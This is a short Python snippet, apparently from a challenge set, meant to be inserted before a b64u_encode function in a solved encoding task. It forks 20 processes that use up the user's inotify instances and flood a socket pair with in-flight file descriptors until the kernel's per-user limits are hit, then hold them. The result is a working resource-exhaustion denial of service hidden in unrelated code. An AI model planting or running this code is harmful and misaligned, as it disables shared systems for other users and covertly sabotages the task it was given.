# about: whatever the system counts for a user is used up: inotify instances, timers, queues, descriptors in flight
# base: solved 01_encoding
# score: at most 25
# costs: much

# %% + before b64u_encode
import ctypes
import os
import socket
import time

libc = ctypes.CDLL(None)
made = 0
for _ in range(20):
    if os.fork() == 0:
        while libc.inotify_init() >= 0:
            pass
        one, other = socket.socketpair()
        one.setblocking(False)
        try:
            while True:
                socket.send_fds(one, [b"x"], [0] * 100)
        except OSError:
            pass
        time.sleep(20)
        os._exit(0)
time.sleep(10)
